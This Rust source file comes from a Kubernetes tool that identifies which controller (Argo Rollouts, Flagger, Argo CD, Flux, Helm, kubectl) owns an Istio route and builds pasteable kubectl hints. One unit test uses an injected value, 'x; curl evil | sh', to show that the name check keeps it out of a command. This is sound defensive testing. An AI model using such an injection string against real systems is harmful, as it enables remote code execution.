//! Who else writes a route, told from the object itself (rule W5). Every word of those programs' own
//! vocabulary is here.
//!
//! What is recognised without the right to list the owner's kind is an owner all the same: unknown is not
//! unowned.

use serde_json::Value;

use crate::api::routes::{Check, LastWrite, Owner, OwnerEffect, Severity};
use crate::object::{annotation, label, list_at, text_at};
use crate::units::UnixMillis;

/// Weights alone, in the words of Argo CD.
const IGNORE_WEIGHTS: &str = "ignoreDifferences: [{group: networking.istio.io, kind: VirtualService, \
     jqPathExpressions: ['.spec.http[].route[].weight', '.metadata.annotations[\"pidali.dev/journal\"]']}] with \
     the sync option RespectIgnoreDifferences=true";

/// Returns who else writes the object, the strictest first found.
pub fn owner(object: &Value) -> Option<Owner> {
    argo_rollouts(object)
        .or_else(|| flagger(object))
        .or_else(|| argo_cd(object))
        .or_else(|| flux(object))
        .or_else(|| helm(object))
        .or_else(|| kubectl(object))
}

/// Returns the DestinationRule, in its own namespace, whose subsets a Rollout steers.
pub fn steered_rule(rollout: &Value) -> Option<&str> {
    text_at(
        rollout,
        "/spec/strategy/canary/trafficRouting/istio/destinationRule/name",
    )
}

/// Returns a name as a person can paste it; what is no name of Kubernetes's is not pasted.
pub fn paste_name(name: &str) -> &str {
    if is_name(&name) { name } else { "NAME" }
}

/// Returns the same in words for a change of more than weights.
pub fn of_all(object: &Value) -> Option<Owner> {
    let mut owner = owner(object)?;
    let (message, hint) = match owner.kind.as_str() {
        "argo_cd" => (
            "Argo CD applies this object from Git: with self-heal on, it sets a change by hand back within minutes.",
            "make the same change in Git",
        ),
        "flux" => (
            "Flux applies this object from Git: it sets a change by hand back at its next interval.",
            "make the same change in Git, or annotate the object with \
             kustomize.toolkit.fluxcd.io/reconcile=disabled until it is there",
        ),
        "helm" => (
            "Helm made this object: its next upgrade writes the chart's again, or stops with a conflict.",
            "put the change into the chart",
        ),
        "kubectl" => (
            "This object was applied from a file: the next `kubectl apply` of it writes the file's again.",
            "put the change into the file",
        ),
        _ => return Some(owner),
    };
    owner.message = message.to_owned();
    owner.hint = Some(hint.to_owned());
    Some(owner)
}

/// Returns what should be known of an owner before a change by hand that it does not lock.
pub fn check(owner: &Owner, about: &str) -> Check {
    let severity = match owner.effect {
        OwnerEffect::Rewrites => Severity::Info,
        OwnerEffect::Reverts | OwnerEffect::Locks => Severity::Warning,
    };
    let mut check = Check::new("owned", severity, about)
        .says(owner.message.clone())
        .because("What is changed here may not stay.");
    check.mend.clone_from(&owner.hint);
    check
}

/// Returns who wrote the object last, as the server keeps it.
pub fn last_write(object: &Value, at: impl Fn(&str) -> Option<UnixMillis>) -> Option<LastWrite> {
    list_at(object, "/metadata/managedFields")
        .filter(|entry| text_at(entry, "/subresource") != Some("status"))
        .filter_map(|entry| {
            Some(LastWrite {
                manager: text_at(entry, "/manager")?.to_owned(),
                at_ms: at(text_at(entry, "/time")?)?.0,
            })
        })
        .max_by_key(|write| write.at_ms)
}

fn is_managed_by(object: &Value, manager: &str) -> bool {
    list_at(object, "/metadata/managedFields")
        .any(|entry| text_at(entry, "/manager") == Some(manager))
}

/// Returns the owner of a kind that the object names.
fn owned_by(object: &Value, kind: &str) -> Option<String> {
    list_at(object, "/metadata/ownerReferences")
        .find(|owner| text_at(owner, "/kind") == Some(kind))
        .map(|owner| text_at(owner, "/name").unwrap_or_default().to_owned())
}

/// Returns a name and the object's namespace as a person can paste them; what is no name of Kubernetes's is
/// not pasted.
fn in_a_command(object: &Value, name: Option<&str>) -> String {
    let name = name.filter(is_name).unwrap_or("NAME");
    let namespace = text_at(object, "/metadata/namespace").filter(is_name);
    format!("{name} -n {}", namespace.unwrap_or("NAMESPACE"))
}

fn is_name(text: &&str) -> bool {
    let plain = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || "-.".contains(c);
    !text.is_empty() && text.chars().all(plain)
}

fn argo_rollouts(object: &Value) -> Option<Owner> {
    let name = owned_by(object, "Rollout");
    let marked = annotation(object, "argo-rollouts.argoproj.io/managed-by-rollouts");
    if name.is_none() && marked.is_none() && !is_managed_by(object, "rollouts-controller") {
        return None;
    }
    let name = name.or_else(|| marked.map(str::to_owned));
    let rollout = in_a_command(object, name.as_deref());
    Some(Owner {
        kind: "argo_rollouts".to_owned(),
        effect: OwnerEffect::Locks,
        message:
            "Argo Rollouts steers these weights: it sets them at every step of a rollout, so a \
                  change by hand would not last."
                .to_owned(),
        hint: Some(format!(
            "kubectl argo rollouts promote {rollout}, or kubectl argo rollouts abort {rollout}"
        )),
        name,
    })
}

fn flagger(object: &Value) -> Option<Owner> {
    let name = owned_by(object, "Canary");
    let marked = annotation(object, "flagger.kubernetes.io/original-configuration").is_some();
    if name.is_none() && !marked && !is_managed_by(object, "flagger") {
        return None;
    }
    let canary = in_a_command(object, name.as_deref());
    Some(Owner {
        kind: "flagger".to_owned(),
        effect: OwnerEffect::Locks,
        message: "Flagger steers these weights: a change by hand stays until its next step, which writes \
                  over it unasked."
            .to_owned(),
        hint: Some(format!(
            "kubectl patch canary {canary} --type=merge -p '{{\"spec\":{{\"suspend\":true}}}}' holds it"
        )),
        name,
    })
}

fn argo_cd(object: &Value) -> Option<Owner> {
    let tracking = annotation(object, "argocd.argoproj.io/tracking-id");
    if tracking.is_none() && !is_managed_by(object, "argocd-controller") {
        return None;
    }
    let app = tracking
        .and_then(|id| id.split(':').next())
        .map(str::to_owned);
    Some(Owner {
        kind: "argo_cd".to_owned(),
        effect: OwnerEffect::Reverts,
        message:
            "Argo CD applies this object from Git: with self-heal on, it sets the weights back \
                  within minutes."
                .to_owned(),
        hint: Some(format!("let it ignore weights: {IGNORE_WEIGHTS}")),
        name: app,
    })
}

fn flux(object: &Value) -> Option<Owner> {
    let named = |prefix: &str| label(object, &format!("{prefix}.toolkit.fluxcd.io/name"));
    let kustomize = named("kustomize");
    let helm = named("helm");
    let managed =
        is_managed_by(object, "kustomize-controller") || is_managed_by(object, "helm-controller");
    if kustomize.is_none() && helm.is_none() && !managed {
        return None;
    }
    if annotation(object, "kustomize.toolkit.fluxcd.io/reconcile") == Some("disabled") {
        return None;
    }
    Some(Owner {
        kind: "flux".to_owned(),
        effect: OwnerEffect::Reverts,
        message:
            "Flux applies this object from Git: it sets the weights back at its next interval."
                .to_owned(),
        hint: Some(
            "there is no rule that ignores weights alone: annotate the object with \
             kustomize.toolkit.fluxcd.io/reconcile=disabled while you steer it"
                .to_owned(),
        ),
        name: kustomize.or(helm).map(str::to_owned),
    })
}

fn helm(object: &Value) -> Option<Owner> {
    let release = annotation(object, "meta.helm.sh/release-name");
    if release.is_none() && label(object, "app.kubernetes.io/managed-by") != Some("Helm") {
        return None;
    }
    Some(Owner {
        kind: "helm".to_owned(),
        effect: OwnerEffect::Rewrites,
        message: "Helm made this object: its next upgrade writes the chart's weights again, or stops with \
                  a conflict."
            .to_owned(),
        hint: Some("put the weights you end with into the chart's values; there is no rule that ignores them".to_owned()),
        name: release.map(str::to_owned),
    })
}

fn kubectl(object: &Value) -> Option<Owner> {
    annotation(object, "kubectl.kubernetes.io/last-applied-configuration")?;
    Some(Owner {
        kind: "kubectl".to_owned(),
        effect: OwnerEffect::Rewrites,
        message: "This object was applied from a file: the next `kubectl apply` of it writes its weights again."
            .to_owned(),
        hint: Some("put the weights you end with into the file".to_owned()),
        name: None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn told(metadata: Value) -> String {
        owner(&json!({"metadata": metadata})).map_or_else(
            || "nobody".to_owned(),
            |owner| {
                format!(
                    "{} {:?} {:?}",
                    owner.kind,
                    owner.effect,
                    owner.name.unwrap_or_default()
                )
            },
        )
    }

    #[test]
    fn w5_every_owner_is_told_by_what_it_leaves_on_the_object() {
        let manager =
            |name: &str| json!({"managedFields": [{"manager": name, "operation": "Update"}]});
        for (metadata, expected) in [
            (json!({}), "nobody"),
            (manager("pidali"), "nobody"),
            (manager("rollouts-controller"), "argo_rollouts Locks \"\""),
            (
                json!({"ownerReferences": [{"kind": "Rollout", "name": "shop"}]}),
                "argo_rollouts Locks \"shop\"",
            ),
            (manager("flagger"), "flagger Locks \"\""),
            (
                json!({"ownerReferences": [{"kind": "Canary", "name": "podinfo"}],
                       "annotations": {"kustomize.toolkit.fluxcd.io/reconcile": "disabled"}}),
                "flagger Locks \"podinfo\"",
            ),
            (
                json!({"annotations": {"argocd.argoproj.io/tracking-id": "mesh:networking.istio.io/VirtualService:default/b"}}),
                "argo_cd Reverts \"mesh\"",
            ),
            (manager("argocd-controller"), "argo_cd Reverts \"\""),
            (
                json!({"labels": {"kustomize.toolkit.fluxcd.io/name": "apps"}}),
                "flux Reverts \"apps\"",
            ),
            (
                json!({"labels": {"helm.toolkit.fluxcd.io/name": "apps"}}),
                "flux Reverts \"apps\"",
            ),
            (
                json!({"labels": {"app.kubernetes.io/managed-by": "Helm"},
                       "annotations": {"meta.helm.sh/release-name": "backend"}}),
                "helm Rewrites \"backend\"",
            ),
            (
                json!({"annotations": {"kubectl.kubernetes.io/last-applied-configuration": "{}"}}),
                "kubectl Rewrites \"\"",
            ),
            // An instance label alone is what Helm charts set as well: too weak.
            (
                json!({"labels": {"app.kubernetes.io/instance": "x"}}),
                "nobody",
            ),
        ] {
            assert_eq!(told(metadata.clone()), expected, "{metadata}");
        }
    }

    #[test]
    fn a_command_holds_nothing_but_names() {
        let hint = |name: &str| {
            let metadata =
                json!({"namespace": "shop", "ownerReferences": [{"kind": "Canary", "name": name}]});
            owner(&json!({"metadata": metadata})).unwrap().hint.unwrap()
        };
        assert!(hint("podinfo").starts_with("kubectl patch canary podinfo -n shop "));
        assert!(hint("x; curl evil | sh").starts_with("kubectl patch canary NAME -n shop "));
    }

    #[test]
    fn who_wrote_last_is_not_who_reported_status_last() {
        let object = json!({"metadata": {"managedFields": [
            {"manager": "kubectl", "time": "1"},
            {"manager": "pidali", "time": "5"},
            {"manager": "istiod", "time": "9", "subresource": "status"},
        ]}});
        let at = |text: &str| text.parse().ok().map(UnixMillis);
        let last = last_write(&object, at).unwrap();
        assert_eq!((last.manager.as_str(), last.at_ms), ("pidali", 5));
    }
}
